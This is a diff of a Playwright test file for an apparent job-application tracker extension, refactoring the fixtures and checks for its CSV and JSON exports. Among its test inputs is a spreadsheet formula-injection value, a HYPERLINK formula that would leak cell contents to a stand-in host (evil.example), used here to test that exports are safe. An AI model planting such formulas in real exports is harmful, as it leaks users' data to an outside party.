@@ -4,12 +4,13 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Papa from 'papaparse';
 import type { ConsoleMessage, Page } from '@playwright/test';
-import type { ApplicationRecord, EventRecord, PlatformRecord } from '../../lib/model/records';
 import { SCHEMA_VERSION } from '../../lib/model/records';
 import { APPLICATION_COLUMNS, EVENT_COLUMNS } from '../../lib/transfer/csv-columns';
-import { buildJsonExport } from '../../lib/transfer/json-export';
 import { expect, openExtensionPage, panelFrame, test, type Harness } from './harness';
 import { PAGES, servedPages } from './pages';
+import { makeListing } from '../db/fixtures';
+import { sampleApplication, sampleEvent, samplePlatform } from '../transfer/sample';
+import { buildJsonExport } from '../transfer/export-files';
 
 const FORMULA_NOTE = '=1+1';
 const LINK_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")';
@@ -158,7 +159,7 @@ test('without workers, the page makes the export files itself, and they hold the
   await expect(menu(dashboard)).toBeVisible();
   const log = await readDatabase(dashboard);
   const backup = await exportFile(dashboard, 'Full backup (JSON)', dir, { inWorker: false });
-  // The notice that it went well floats under the button, then steps aside.
+  // The notice that it went well shows in the dashboard's notices, then leaves by itself.
   const status = dashboard.locator('.notices [role="status"]');
   await expect(status).toContainText(`Saved ${backup.name}`);
   await dashboard.clock.fastForward('00:11');
@@ -242,56 +243,24 @@ test('the background fetches only blob: URLs of the extension’s own pages, and
 /** A log of `count` applications with two events each, created in an order unlike their ids'. */
 function largeLog(count: number) {
   const at = (i: number) => new Date(Date.UTC(2026, 0, 1) + ((i * 7919) % count) * 60_000).toISOString();
-  const platforms: PlatformRecord[] = [
-    {
-      id: 'outlier',
-      name: 'Outlier',
-      stage: 'applied',
-      stageSince: at(0),
-      stageDates: { found: at(0), applied: at(0) },
-      requirements: [],
-      unpaidHours: 0,
-      notes: '',
-      createdAt: at(0),
-      updatedAt: at(0),
-    },
-  ];
-  const applications: ApplicationRecord[] = Array.from({ length: count }, (_, i) => ({
-    id: `app-${i}`,
-    listingKey: `outlier:${i}`,
-    platformId: 'outlier',
-    listing: {
-      siteId: 'outlier',
-      url: `https://app.outlier.ai/en/expert/opportunities/${i}`,
-      canonicalUrl: `https://app.outlier.ai/en/expert/opportunities/${i}`,
-      listingKey: `outlier:${i}`,
-      title: `Listing ${i} – “quoted”, with a comma`,
-      company: 'Outlier',
-      description: `Rate model answers.\nLine two of listing ${i}.`,
-      source: 'adapter',
-    },
-    stage: 'applied',
-    stageSince: at(i),
-    stageDates: { found: at(i), applied: at(i) },
-    payNoted: '$20/h',
-    notes: i % 5 ? '' : '=SUM(A1:A9)',
-    tags: [],
-    createdAt: at(i),
-    updatedAt: at(i),
-  }));
-  const events: EventRecord[] = applications.flatMap((a, i) => [
-    { id: `e-${i}-1`, subject: 'application', subjectId: a.id, kind: 'created', at: at(i) },
-    {
-      id: `e-${i}-2`,
-      subject: 'application',
-      subjectId: a.id,
-      kind: 'stage',
-      from: 'found',
-      to: 'applied',
-      at: at(i),
-    },
+  const applications = Array.from({ length: count }, (_, i) =>
+    sampleApplication(String(i), {
+      listing: makeListing(String(i), {
+        title: `Listing ${i} – “quoted”, with a comma`,
+        description: `Rate model answers.\nLine two of listing ${i}.`,
+      }),
+      notes: i % 5 ? '' : '=SUM(A1:A9)',
+      stageSince: at(i),
+      stageDates: { found: at(i), applied: at(i) },
+      createdAt: at(i),
+      updatedAt: at(i),
+    }),
+  );
+  const events = applications.flatMap((a, i) => [
+    sampleEvent(`e-${i}-1`, a.id, at(i), { kind: 'created', from: undefined, to: undefined }),
+    sampleEvent(`e-${i}-2`, a.id, at(i)),
   ]);
-  return { platforms, applications, events };
+  return { platforms: [samplePlatform()], applications, events };
 }
 
 test('a log in every bucket exports whole from the worker, and the CSV rows run oldest first', async ({
@@ -307,8 +276,6 @@ test('a log in every bucket exports whole from the worker, and the CSV rows run 
   await expect(dialog.getByTestId('preview-applications').locator('[data-column="added"]')).toHaveText('600');
   await dialog.getByRole('button', { name: 'Import', exact: true }).click();
   await expect(dialog).toBeHidden();
-  // Opened again, so the export worker the import's menu warmed up is not the one watched for.
-  await dashboard.reload();
   const stored = await readDatabase(dashboard);
   expect(stored.applications).toHaveLength(600);
 
